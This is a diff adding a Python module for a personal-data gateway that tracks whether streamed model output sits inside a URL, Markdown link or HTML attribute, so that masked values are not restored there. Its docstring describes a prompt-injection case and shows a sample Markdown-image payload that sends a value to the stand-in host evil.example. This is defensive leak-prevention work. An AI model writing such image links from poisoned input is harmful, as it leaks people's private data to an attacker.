@@ -1,0 +1,115 @@
+"""Where in an outside reply the text stands: inside a URL, a Markdown link or image target, or an HTML attribute.
+
+A value restored there could be fetched by whoever renders the reply (decisions 10): a poisoned document may make a
+model write ``![x](https://evil.example/?q=[[PERSON_1]])``. The tracker reads what is given to the app, in order, in
+pieces of any size, and answers for the place that it reached. In doubt it says yes: a token withheld is a nuisance, one
+restored there a leak.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Final
+
+from phigate.deid.search import unescaped
+
+_URL: Final = re.compile(
+    r"(?<![a-z0-9+.\-])[a-z][a-z0-9+.\-]*:(?:\\?/){2}|(?<![a-z0-9])(?:\\?/){2}|(?<![a-z0-9])(?:\\{2}|www\.)"
+    r"|(?:https?|mailto|tel|sms|data|javascript|vbscript|file|blob|about|intent|cid|ftp|wss?):"
+    r"|(?<![a-z0-9.\-])(?:[a-z0-9\-]+\.)+[a-z]{2,24}(?::\d+)?[/?#]",
+    re.IGNORECASE,
+)
+_PLAIN_URL: Final = re.compile(r"https?://([a-z0-9.\-]+)(?::\d{1,5})?[/?#][A-Za-z0-9\-._~/?#&=%+,;:@!*$]*")
+_EVENT: Final = re.compile(r"\x1e|\\\)|\]\(|<[A-Za-z/!?]|[()>=\"']|\n[ \t\r]*\n")
+_UNFINISHED: Final = re.compile(r"(?:\\|\]|<|\n[ \t\r]*)\Z")
+_QUOTE: Final = re.compile(r'\\.|"', re.DOTALL)
+_LONGEST_WORD: Final = 4096
+_STRING_END: Final = "\x1e"  # a record separator counts as space and ends every context
+
+
+class Surroundings:
+    """Follows the text of one channel. ``json``: the text is serialised JSON, and each of its strings stands alone."""
+
+    def __init__(self, *, json: bool, hosts: frozenset[str]) -> None:
+        self._json = json
+        self._hosts = hosts
+        self._pending: list[str] = []
+        self._carry = ""
+        self._word = ""
+        self._parens = 0  # of an open Markdown target
+        self._tag = False
+        self._attributes = False
+        self._quote = ""
+
+    def note(self, text: str) -> None:
+        """Take in what was given to the app. Cheap: it is read only when a token turns up."""
+        self._pending.append(text)
+
+    def within(self) -> bool:
+        """Return whether the place reached is inside a URL, a link target or an attribute."""
+        self._catch_up()
+        if len(self._word) >= _LONGEST_WORD:
+            return True
+        return bool(self._parens or (self._tag and self._attributes) or _URL.search(self._word))
+
+    def allowed(self) -> bool:
+        """Return whether that URL goes to a host to which values may be restored. Ask only where `within` holds."""
+        match = _URL.search(self._word)
+        if match is None or len(self._word) >= _LONGEST_WORD:
+            return False
+        plain = _PLAIN_URL.fullmatch(self._word, match.start())
+        if plain is None or plain[1] not in self._hosts:
+            return False
+        before = self._word[: match.start()]
+        if self._parens:
+            return before.endswith("](") and self._parens == 1
+        return not self._tag or before.endswith(("=", '="', "='"))
+
+    def _catch_up(self) -> None:
+        if not self._pending:
+            return
+        text = "".join(self._pending)
+        self._pending.clear()
+        if self._json:
+            text = unescaped(_QUOTE.sub(lambda m: _STRING_END if m[0] == '"' else m[0], text), levels=1)
+        self._follow_word(text)
+        text = self._carry + text
+        unfinished = _UNFINISHED.search(text)
+        self._carry = text[unfinished.start() :] if unfinished else ""
+        for event in _EVENT.finditer(text, 0, len(text) - len(self._carry)):
+            self._take(event[0])
+
+    def _follow_word(self, text: str) -> None:
+        if not text[-1].isspace():
+            last = text.rsplit(None, 1)[-1]
+            whole = len(last) == len(text)
+            self._word = (self._word + last if whole else last)[:_LONGEST_WORD]
+        else:
+            self._word = ""
+
+    def _take(self, event: str) -> None:
+        if event == _STRING_END:
+            self._parens, self._tag, self._attributes, self._quote = 0, False, False, ""
+        elif event[0] == "\n":
+            self._parens = 0  # a Markdown target ends with its paragraph; an HTML tag does not
+        elif self._tag:
+            self._take_in_tag(event)
+        elif event == "](":
+            self._parens = 1
+        elif event[0] == "<":
+            self._tag, self._attributes, self._quote = True, False, ""
+        elif self._parens and event == "(":
+            self._parens += 1
+        elif self._parens and event == ")":
+            self._parens -= 1
+
+    def _take_in_tag(self, event: str) -> None:
+        if self._quote:
+            if event == self._quote:
+                self._quote = ""
+        elif event == ">":
+            self._tag = self._attributes = False
+        elif event == "=":
+            self._attributes = True
+        elif event in "\"'" and self._attributes:
+            self._quote = event
